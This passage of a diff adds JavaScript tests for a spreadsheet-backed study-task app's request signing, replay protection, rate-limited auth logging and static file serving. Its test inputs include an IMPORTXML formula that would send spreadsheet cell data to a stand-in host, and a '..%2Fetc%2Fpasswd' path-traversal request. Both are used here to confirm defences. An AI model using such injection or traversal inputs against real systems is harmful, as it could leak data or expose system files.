+        assert.equal(unsigned.success, false);
+        assert.equal(unsigned.code, 'UNAUTHORIZED');
+        await assert.rejects(
+            withToken('guess').write('addStudyTask', studyTask('task_stranger')),
+            error => error.code === 'UNAUTHORIZED' && error.retryable === false
+        );
+        assert.equal(studyTaskRows().some(row => row[0] === 'task_stranger'), false);
+        // Logged to the spreadsheet set in the script property, never to the one the caller named;
+        // the action is stored as text
+        assert.equal(spreadsheet.getSheetByName('_AuthLog'), null);
+        assert.deepEqual(authLog.dump('_AuthLog').slice(1).map(row => [row[1], row[2], row[3]]), [
+            ['GET', "'getSubjects", 'Missing request signature'],
+            ['POST', "'addStudyTask", 'Invalid request signature']
+        ]);
+
+        const owner = withToken('test-secret');
+        assert.equal((await owner.read('getSubjects')).success, true);
+        assert.equal((await owner.write('addStudyTask', studyTask('task_signed'))).success, true);
+
+        // A captured request cannot be sent again, nor one signed long ago
+        const url = `${baseUrl}/exec?${new URLSearchParams(await owner.buildParams('getSubjects'))}`;
+        assert.equal((await (await fetch(url)).json()).success, true);
+        assert.match((await (await fetch(url)).json()).error, /already used/);
+
+        const old = { action: 'getSubjects', spreadsheetId: SPREADSHEET_ID, ts: String(Date.now() - 10 * 60 * 1000), nonce: 'old' };
+        old.signature = await GoogleSheetsStorage.computeSignature(GoogleSheetsStorage.getSigningString(old), 'test-secret');
+        assert.match((await (await fetch(`${baseUrl}/exec?${new URLSearchParams(old)}`)).json()).error, /outside the allowed window/);
+        assert.equal(authLog.dump('_AuthLog').length, 5);
+    } finally {
+        scriptProperties.delete('API_SECRET');
+        scriptProperties.delete('AUTH_LOG_SPREADSHEET_ID');
+    }
+});
+
+test('rejected requests are logged as capped plain text, at a limited rate', async () => {
+    const { scriptProperties } = server.backend;
+    const authLog = server.backend.openSpreadsheet('rate-limited-log');
+    scriptProperties.set('API_SECRET', 'test-secret');
+    scriptProperties.set('AUTH_LOG_SPREADSHEET_ID', 'rate-limited-log');
+    const reject = action => fetch(`${baseUrl}/exec?${new URLSearchParams({ action, spreadsheetId: SPREADSHEET_ID })}`);
+
+    try {
+        const formula = '=IMPORTXML("https://example.com/?" & A1, "//a")' + 'x'.repeat(200);
+        await reject(formula);
+        const rows = authLog.dump('_AuthLog');
+        assert.equal(rows[rows.length - 1][2], "'" + formula.slice(0, 100));
+
+        // Earlier tests may have used part of the window; no more than 20 rows are written in it
+        for (let i = 0; i < 25; i++) {
+            await reject('getSubjects');
+        }
+        assert.ok(authLog.dump('_AuthLog').length - 1 <= 20);
+    } finally {
+        scriptProperties.delete('API_SECRET');
+        scriptProperties.delete('AUTH_LOG_SPREADSHEET_ID');
+    }
+});
+
+test('unknown read actions return an error response', async () => {
+    const result = await storage.read('getNothing');
+
+    assert.equal(result.success, false);
+    assert.match(result.error, /Unknown action/);
+});
+
+test('the app is served with config.js pointing at the mock', async () => {
+    const response = await fetch(`${baseUrl}/js/config.js`);
+    const source = await response.text();
+
+    assert.equal(response.status, 200);
+    assert.ok(source.includes(`GAS_WEB_APP_URL: '${baseUrl}/exec'`));
+
+    const outside = await fetch(`${baseUrl}/..%2Fetc%2Fpasswd`);
+    assert.equal(outside.status, 404);
+});